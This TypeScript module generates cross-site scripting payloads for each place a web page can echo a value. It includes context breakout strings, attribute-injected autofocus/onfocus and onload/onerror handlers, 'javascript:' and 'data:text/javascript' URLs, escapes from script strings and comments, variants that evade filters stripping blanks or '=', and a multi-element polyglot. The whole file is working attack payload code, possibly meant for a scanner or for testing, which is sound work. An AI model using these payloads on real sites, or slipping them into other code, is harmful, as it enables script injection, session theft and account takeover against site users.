/** Where a page writes a value, as far as it takes other signs to get out of it. */
export type Context =
  | 'text'
  | 'comment'
  | 'attribute'
  | 'loading attribute'
  | 'handler'
  | 'address'
  | 'script'
  | 'script address'
  | 'tag'
  | `in ${string}`;

/** What gets a piece of markup out of a context. */
export function breakers(context: Context): readonly string[] {
  if (context === 'text') return [''];
  if (context === 'comment') return ['-->'];
  if (context === 'tag') return ['>'];
  if (context === 'attribute' || context === 'loading attribute') return ['">', "'>", '>'];
  return context.startsWith('in ') ? [`</${context.slice(3)}>`] : [];
}

/** What runs a call out of a comment that ends with its line, out of a longer one, and beside a regular expression. */
const inScript = (call: string) => [`\n${call}//`, `*/;${call};/*`, `x/-${call}-/x`];

/** What runs a call without new elements in a context. */
export function withoutTags(context: Context, call: string): readonly string[] {
  const quoted = [`'-${call}-'`, `"-${call}-"`];
  const inAttribute = (handlers: string) => [`" ${handlers} x="`, `' ${handlers} x='`, `x ${handlers} x=`];
  // By itself, as soon as the page is shown.
  const focused = `autofocus tabindex=1 onfocus=${call}`;
  if (context === 'attribute')
    return [
      ...inAttribute(focused),
      // Where blanks are taken out.
      `"autofocus/tabindex="1"onfocus="${call}`,
      `'autofocus/tabindex='1'onfocus='${call}`,
    ];
  if (context === 'tag') return [`x ${focused} x=`];
  if (context === 'script address') return [`data:text/javascript,${call}//`];
  if (context === 'loading attribute') return inAttribute(`onload=${call} onerror=${call}`);
  if (context === 'handler') return [...quoted, call];
  if (context === 'address') return [`javascript:${call}`];
  return context === 'script'
    ? [...quoted, `\\'-${call}//`, `\\"-${call}//`, `\${${call}}`, call, ...inScript(call)]
    : [];
}

/** Elements that run a call by themselves: the second where blanks and slashes are taken out, the third where `=` is. */
export const calling = (call: string) => [`<svg/onload=${call}>`, `<svg\nonload=${call}>`, `<script>${call}</script>`];

/**
 * For a page that keeps a plain word to itself: one that shows what is wrong with a value or takes elements alone, at times
 * of one kind. A quote first, which is wrong in most places; a line break, as some filters look at the first line.
 */
export function elementsOfAllKinds(call: string): string {
  const focused = `<div tabindex=1 autofocus onfocus=${call}></div>`;
  const addressed = `<a href=javascript:${call}>x</a><script src="data:text/javascript,${call}//"></script>`;
  const loaded = `<img src=x onerror=${call}><iframe onload=${call}></iframe><style onload=${call}></style>`;
  return `'"<svg/onload=${call}></svg>\n${focused}${loaded}${addressed}<script>${call}</script><body onload=${call}>`;
}
